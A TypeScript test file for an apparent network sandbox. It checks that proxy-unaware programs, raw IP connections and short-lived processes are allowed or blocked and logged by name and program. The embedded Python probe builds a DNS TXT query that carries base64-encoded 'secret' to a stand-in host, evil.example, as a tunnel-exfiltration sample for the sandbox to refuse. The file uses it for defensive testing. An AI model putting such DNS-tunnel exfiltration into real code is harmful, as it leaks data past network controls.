// With no proxy variable set: programs of every kind reach an allowed name and fail for another, and both are recorded with the name and the program.
import { chmodSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { callersIn } from "../support/caller.ts";
import { needs } from "../support/needs.ts";
import { recordsOf } from "../support/session-records.ts";
import { tmp } from "../support/tmp.ts";
import { isInstalled, UNAWARE, unawareServer, writePrograms } from "../support/unaware.ts";

const BARE = 'env -i PATH="$PATH" HOME="$HOME" TMPDIR="$TMPDIR" LANG=C.UTF-8';

test("programs that ignore proxy variables", { timeout: 120_000 }, async (context) => {
  needs(context, "userns", "bubblewrap", "seccomp", "overlay", "helper", "python3", "git");
  const folder = realpathSync(tmp());
  chmodSync(folder, 0o755);
  const [caller] = callersIn(folder);
  if (caller === undefined) throw new Error("nobody calls");
  const port = await unawareServer(folder);
  const cwd = caller.folder("work");
  writePrograms(cwd);
  const here = UNAWARE.filter(({ program }) => isInstalled(program));
  const absent = UNAWARE.filter((one) => !here.includes(one)).map(({ name }) => name);
  if (absent.length > 0) console.log(`not installed, so not tried: ${absent.join(", ")}`);
  here.forEach(({ script }, at) => void writeFileSync(join(cwd, `${at}.sh`), `${script}\n`));

  // The control: each works outside, towards the address that the name stands for.
  const outside = here.map((_, at) => {
    const ended = caller.outside(["sh", `${at}.sh`], { cwd, env: { NAME: "127.0.0.1", PORT: `${port}` } });
    return `${ended.stdout}${ended.stderr}`.includes("hello");
  });
  const failing = here.filter(({ name }, at) => !outside[at] && name !== "curl over IPv6").map(({ name }) => name);
  expect(failing).toEqual([]);

  const names = ["allowed.test", "refused.test"];
  const script = here.flatMap((_, at) =>
    names.map((name) => `${BARE} NAME=${name} PORT=${port} sh ${at}.sh >${at}.${name}.out 2>&1; true`),
  );
  writeFileSync(join(cwd, "all.sh"), `${script.join("\n")}\nfor f in *.out; do echo "=== $f"; cat $f; done\n`);
  const options = [
    "run",
    "--quiet",
    "--json",
    join(cwd, "../summary.json"),
    "--allow-domain",
    `allowed.test:${port}=127.0.0.1/32`,
  ];
  const ran = caller.ringfence([...options, "--", "sh", "all.sh"], { cwd, timeoutMs: 100_000 });
  const said = new Map(ran.stdout.split("=== ").map((part) => [part.split("\n", 1)[0] ?? "", part]));
  const records = recordsOf(caller, "net.*");
  const by = (type: string, host: string, exe: RegExp): boolean =>
    records.some(({ type: of, actor, data }) => of === type && data["host"] === host && exe.test(actor?.exe ?? ""));

  const results = here.map(({ name, exe }, at) => ({
    name,
    allowed: said.get(`${at}.allowed.test.out`)?.includes("hello") === true,
    refused: said.get(`${at}.refused.test.out`)?.includes("hello") === false,
    recorded: [by("net.connect", "allowed.test", exe), by("net.blocked", "refused.test", exe)],
  }));
  expect(results, ran.stdout + ran.stderr).toEqual(
    here.map(({ name }) => ({ name, allowed: true, refused: true, recorded: [true, true] })),
  );
});

test("addresses that no rule names, datagrams and tunnels are refused at once, by name and program", async (context) => {
  needs(context, "userns", "bubblewrap", "seccomp", "overlay", "helper", "python3");
  const folder = realpathSync(tmp());
  chmodSync(folder, 0o755);
  const [caller] = callersIn(folder);
  if (caller === undefined) throw new Error("nobody calls");
  const cwd = caller.folder("work");
  writeFileSync(join(cwd, "try.py"), TRIES);
  // The control: outside, the same program reaches its own listeners.
  const outside = caller.outside(["python3", "try.py", "outside"], { cwd });
  expect(outside.stdout).toBe("tcp sent\nudp sent\n");
  const ran = caller.ringfence(["run", "--quiet", "--", "python3", "try.py", "inside"], { cwd });
  expect(ran.stdout).toBe("tcp ECONNREFUSED\nudp EPERM\ntcp6 ECONNREFUSED\ndot ECONNREFUSED\ntext 0\n");
  const records = recordsOf(caller, "net.blocked");
  const blocked = records.map(({ actor, data }) => [
    ...[data["host"], data["port"], data["reason"]],
    /\/python3[.\d]*$/.test(actor?.exe ?? ""),
  ]);
  const expected = [
    ["1.1.1.1", 443, "no-rule", true],
    ["1.1.1.1", 443, "refused-udp", true],
    ["2606:4700::1111", 443, "no-rule", true],
    ["9.9.9.9", 853, "no-rule", true],
    ["c2vjcmv0.evil.example", 53, "refused-dns-type-16", true],
  ];
  expect([...blocked].sort()).toEqual(expected.sort());
});

test("a program that has ended when its connection arrives is named all the same", async (context) => {
  needs(context, "userns", "bubblewrap", "seccomp", "overlay", "helper", "python3");
  const folder = realpathSync(tmp());
  chmodSync(folder, 0o755);
  const [caller] = callersIn(folder);
  if (caller === undefined) throw new Error("nobody calls");
  const cwd = caller.folder("work");
  writeFileSync(join(cwd, "short.py"), SHORT_LIVED);
  caller.ringfence(["run", "--quiet", "--", "python3", "short.py"], { cwd });
  const records = recordsOf(caller, "net.blocked");
  const named = records.map(({ actor, data }) => `${data["host"]} ${/\/python3[.\d]*$/.test(actor?.exe ?? "")}`);
  expect(named.sort()).toEqual(Array.from({ length: 8 }, (_, i) => `short${i}.test true`));
});

const SHORT_LIVED = `
import os, socket
for i in range(8):
  if os.fork() == 0:
    to = socket.getaddrinfo(f"short{i}.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    socket.create_connection(to).send(b"x")
    os._exit(0)
  os.wait()
`;

const TRIES = `
import errno, socket, struct, sys, time
def trial(label, act):
  try: print(label, act() or "sent")
  except OSError as error: print(label, errno.errorcode.get(error.errno))
def stream(to): socket.create_connection(to, 3).close()
def datagram(to): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", to) and None
if sys.argv[1] == "outside":
  server = socket.create_server(("127.0.0.1", 0))
  trial("tcp", lambda: stream(server.getsockname()))
  trial("udp", lambda: datagram(server.getsockname()))
else:
  trial("tcp", lambda: stream(("1.1.1.1", 443)))
  trial("udp", lambda: datagram(("1.1.1.1", 443)))
  trial("tcp6", lambda: stream(("2606:4700::1111", 443)))
  trial("dot", lambda: stream(("9.9.9.9", 853)))
  question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\x08c2VjcmV0\\x04evil\\x07example\\0" + struct.pack(">2H", 16, 1)
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
  s.sendto(question, ("9.9.9.9", 53))
  print("text", s.recv(512)[7])
  time.sleep(0.5)
`;
